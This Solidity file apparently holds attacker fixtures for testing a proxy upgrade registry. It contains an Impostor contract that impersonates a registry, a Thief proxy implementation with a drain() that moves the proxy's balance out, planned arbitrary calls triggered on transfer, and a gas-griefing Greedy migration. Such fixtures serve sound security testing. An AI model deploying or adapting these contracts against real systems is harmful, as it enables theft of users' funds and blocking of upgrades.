// SPDX-License-Identifier: MIT OR Apache-2.0
pragma solidity ^0.8.20;

struct PathStep {
    string from;
    string to;
    address implementation;
    uint8 kind;
    address script;
    bytes data;
}

interface IReceives {
    function beginUpgrade(address caller, string calldata version) external;
    function receiveTransfer(address proxy, bytes32 definition, uint64 nonce) external returns (bytes4);
}

interface IOrders {
    function create(bytes32 salt) external returns (address proxy);
    function give(address proxy, address to) external;
}

/// Run by delegatecall in a proxy's frame: says to a registry what a proxy that obeys it would say.
contract Obedience {
    function obey(address registry, address caller, string calldata version) external {
        IReceives(registry).beginUpgrade(caller, version);
    }
}

/// The code that a false proxy runs: that of the version, until its master wants the money.
contract Thief {
    address immutable code;

    constructor(address code_) {
        code = code_;
    }

    function drain(address payable to) external {
        to.transfer(address(this).balance);
    }

    fallback() external payable {
        address to = code;
        assembly {
            calldatacopy(0, 0, calldatasize())
            let done := delegatecall(gas(), to, 0, calldatasize(), 0, 0)
            returndatacopy(0, 0, returndatasize())
            switch done
            case 0 { revert(0, returndatasize()) }
            default { return(0, returndatasize()) }
        }
    }

    receive() external payable {}
}

/// A contract that plays the registry of a proxy, and has the proxy play an instance of another one.
contract Impostor {
    address immutable script;
    address immutable thief;
    string at;
    uint256 n;
    /// Whom its proxy is to obey from now on.
    address next;
    bool deaf;

    constructor(address script_, address thief_, string memory at_) {
        (script, thief, at) = (script_, thief_, at_);
    }

    /// A proxy of kind 1 that obeys this contract, and has the mark of a version.
    function create(address orders, string calldata version) external returns (address proxy) {
        proxy = IOrders(orders).create(0);
        order(orders, proxy, version);
    }

    /// The same proxy obeys another registry from now on, and the orders contract is told so.
    function give(address orders, address proxy, address to) external {
        next = to;
        order(orders, proxy, "");
        IOrders(orders).give(proxy, to);
    }

    /// Hands the proxy to a definition that has accepted it from here.
    function deliver(address registry, address proxy, bytes32 definition, uint64 nonce) external {
        IReceives(registry).receiveTransfer(proxy, definition, nonce);
    }

    function turnDeaf() external {
        deaf = true;
    }

    function drain(address proxy, address payable to) external {
        Thief(payable(proxy)).drain(to);
    }

    // -- what it does when it is given a proxy

    struct Planned {
        address to;
        bytes data;
    }

    Planned[] planned;
    bool[] public outcomes;

    function plan(address to, bytes calldata data) external {
        planned.push(Planned(to, data));
    }

    function receiveTransfer(address, bytes32, uint64) external returns (bytes4) {
        for (uint256 i = 0; i < planned.length; i++) {
            (bool done,) = planned[i].to.call(planned[i].data);
            outcomes.push(done);
        }
        return IReceives.receiveTransfer.selector;
    }

    // -- what a registry is asked

    function beginUpgrade(address caller, string calldata version)
        external
        returns (uint8, address, PathStep[] memory steps)
    {
        require(!deaf, "deaf");
        if (next != address(0)) {
            return (3, next, steps);
        }
        string memory from = at;
        at = bytes(from).length == 0 ? version : string(abi.encodePacked("x", bytes1(uint8(48 + n++))));
        steps = new PathStep[](1);
        steps[0] = PathStep(from, at, thief, 0, address(0), "");
        if (bytes(from).length != 0) {
            (steps[0].kind, steps[0].script) = (2, script);
            steps[0].data = abi.encodeCall(Obedience.obey, (caller, caller, version));
        }
        return (0, address(0), steps);
    }

    function endUpgrade(string calldata) external {}

    function order(address orders, address proxy, string memory version) private {
        bytes memory upgrade = abi.encodeWithSignature("upgradeTo(string)", version);
        (bool done, bytes memory answer) = orders.call(bytes.concat(bytes32(uint256(uint160(proxy))), upgrade));
        if (!done) {
            assembly {
                revert(add(answer, 32), mload(answer))
            }
        }
    }
}

/// Code whose step takes as long as the proxy's creator wants.
contract Greedy {
    uint256 public count;

    function initialize(uint256 count_) external {
        count = count_;
    }

    function migrate() external {
        uint256 end = count;
        for (uint256 i = 0; i < end; i++) {
            count = i;
        }
        count = end;
    }
}
